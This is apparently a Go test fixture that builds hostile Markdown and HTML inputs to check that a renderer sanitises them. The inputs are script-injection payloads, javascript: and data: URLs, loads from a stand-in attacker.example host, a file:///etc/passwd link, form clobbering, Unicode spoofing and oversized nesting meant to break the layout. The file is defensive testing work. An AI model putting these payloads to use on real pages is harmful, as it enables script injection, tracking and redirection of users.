package itemtext_test

import (
	"fmt"
	"strings"
)

// Attacks returns Markdown that tries to run a script, load a file, lead to another page, or
// break the layout.
func attacks() []string {
	var list []string
	for _, html := range attackHTML {
		list = append(list, html, "Text "+html+" text", "- item\n\n  "+html+"\n", "| a | b |\n|---|---|\n| "+
			strings.ReplaceAll(html, "\n", " ")+" | x |", "> "+html, "# "+html)
	}
	for _, target := range attackTargets {
		list = append(list, "[link]("+target+")", "![image]("+target+")", "<"+target+">", "[link][1]\n\n[1]: "+target,
			"[![both]("+target+")]("+target+")")
	}
	return append(list, attackBlocks()...)
}

var attackHTML = []string{
	`<script>window.hasRun = true</script>`,
	`<script src="https://attacker.example/x.js"></script>`,
	`<img src=x onerror="window.hasRun = true">`,
	`<img src="https://attacker.example/pixel.png" width=1 height=1>`,
	`<svg onload="window.hasRun = true"><script>window.hasRun = true</script></svg>`,
	`<iframe src="javascript:parent.hasRun = true"></iframe>`,
	`<iframe srcdoc="<script>parent.hasRun = true</script>"></iframe>`,
	`<body onload="window.hasRun = true">`,
	`<a href="javascript:window.hasRun = true" autofocus onfocus="window.hasRun = true">click</a>`,
	`<input autofocus onfocus="window.hasRun = true">`,
	`<details open ontoggle="window.hasRun = true"><summary>x</summary></details>`,
	`<style>body { display: none } @import url(https://attacker.example/x.css);</style>`,
	`<link rel=stylesheet href="https://attacker.example/x.css">`,
	`<meta http-equiv=refresh content="0;url=https://attacker.example/">`,
	`<base href="https://attacker.example/">`,
	`<form action="https://attacker.example/"><button>Submit</button></form>`,
	`<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div>`,
	`</div></div></section></main><h1>outside</h1>`,
	`<object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x.swf">`,
	`<video src="https://attacker.example/x.mp4" autoplay onplay="window.hasRun = true"></video>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="window.hasRun = true">`,
	`<noscript><p title="</noscript><img src=x onerror=window.hasRun=true>">`,
	`<template><script>window.hasRun = true</script></template>`,
	`<textarea></textarea><img src=x onerror="window.hasRun = true">`,
	`<!-- --><script>window.hasRun = true</script><!-- -->`,
	`<![CDATA[<script>window.hasRun = true</script>]]>`,
	"<scr\x00ipt>window.hasRun = true</scr\x00ipt>",
	`<ScRiPt >window.hasRun = true</sCrIpT >`,
	`&lt;script&gt;window.hasRun = true&lt;/script&gt;`,
	`&#60;img src=x onerror=window.hasRun=true&#62;`,
	`<input type=radio name=overall value=5 checked form=answer-form>`,
	`<button form=answer-form>Submit</button>`,
	`<label for=submit-answers>click me</label>`,
	`<p id=submit-answers class=primary data-item-action=raw>clobbered</p>`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<audio><source src="https://attacker.example/x" onerror="window.hasRun = true"></audio>`,
}

var attackTargets = []string{
	`javascript:window.hasRun=true`, `JaVaScRiPt:window.hasRun=true`, `java&#10;script:window.hasRun=true`,
	`&#106;avascript:window.hasRun=true`,
	`vbscript:msgbox(1)`, `data:text/html,<script>window.hasRun=true</script>`,
	`data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
	`https://attacker.example/pixel.png`, `//attacker.example/pixel.png`, `/sign-out`, `/work/1/skip`, `#answer-form`,
	`file:///etc/passwd`, `blob:x`,
	`https://attacker.example/"onmouseover="window.hasRun=true`,
	`https://attacker.example/'><script>window.hasRun=true</script>`,
	`https://user:password@attacker.example/`, `tel:112`, `https://attacker.example/` + strings.Repeat("a", 500),
}

func attackBlocks() []string {
	list := []string{
		"| " + strings.Repeat("wide | ", 60) + "\n|" + strings.Repeat("---|", 60) + "\n| " +
			strings.Repeat(strings.Repeat("x", 40)+" | ", 60),
		"|a|b|\n|-|-|\n" + strings.Repeat("|1|2|\n", 3000),
		strings.Repeat("|", 2000) + "\n" + strings.Repeat("|-", 2000) + "\n" + strings.Repeat("|\n", 2000),
		strings.Repeat("> ", 20) + "deep", strings.Repeat("> ", 2000) + "deeper",
		strings.Repeat("- ", 20) + "deep", strings.Repeat("1. ", 2000) + "deeper",
		strings.Repeat("*a **b ", 500), strings.Repeat("[", 5000), strings.Repeat("![", 3000), strings.Repeat("[a](",
			3000), strings.Repeat("`", 4001) + "a",
		strings.Repeat("<", 5000), strings.Repeat("\\", 5000), strings.Repeat("&", 5000), strings.Repeat("_a", 5000),
		strings.Repeat("~~a", 3000),
		"```html\n<script>window.hasRun = true</script>\n```", "```\"><script>window.hasRun=true</script>\ncode\n```",
		"```" + strings.Repeat("x", 300) + "\ncode\n```",
		"    <script>window.hasRun = true</script>", "`<script>window.hasRun = true</script>`",
		"```javascript\n" + strings.Repeat("/*", 2000) + "\n```",
		"```css\n@import url(https://attacker.example/x.css)\n```",
		strings.Repeat("W", 5000), "# " + strings.Repeat("W", 3000), "`" + strings.Repeat("W", 3000) + "`", "```\n" +
			strings.Repeat("W", 3000) + "\n```",
		"- [x] done\n- [ ] <script>window.hasRun = true</script>", "Term\n: <script>window.hasRun = true</script>",
		"[1]: javascript:window.hasRun=true \"title\"\n\n[x][1]", "[a]: " + strings.Repeat("u", 2000) + "\n\n" +
			strings.Repeat("[a]", 2000),
		`{"html": "<script>window.hasRun = true</script>", "image": "https://attacker.example/x.png"}`,
		`["<img src=x onerror=window.hasRun=true>"]`,
		strings.Repeat(`{"a":`, 39) + "1" + strings.Repeat("}", 39),
		strings.Repeat("[", 9000) + strings.Repeat("]", 9000),
		"Pay \u202e001$ ot\u202c me\u200b **now \u2066isolated\u2069** and `\u0007` [x](\u202ehttps://attacker.example)",
		"$\\text{</mtext></math><img src=x onerror=window.hasRun=true>}$", `$\href{javascript:window.hasRun=true}{x}$`,
		`$\class{primary}{x}$`, `$\unicode{60}script\unicode{62}$`,
		"$<script>window.hasRun=true</script>$", "$$" + strings.Repeat("{", 1000) + strings.Repeat("}", 1000) + "$$",
		"$$" + strings.Repeat(`\frac{`, 300) + strings.Repeat("}", 300) + "$$",
		strings.Repeat("$x$", 3000), "$$" + strings.Repeat(`a\\`, 900) + "$$", "$$" + strings.Repeat("W_{W}", 700) +
			"$$", `$\begin{array}{c}` + strings.Repeat("a&", 900) + `\end{array}$`,
		"**\u0645\u0631\u062d\u0628\u0627** <script>window.hasRun = true</script>", strings.Repeat("\u0300", 3000),
	}
	for i := range 6 {
		list = append(list, fmt.Sprintf("%s <script>window.hasRun = true</script>", strings.Repeat("#", i+1)))
	}
	return list
}
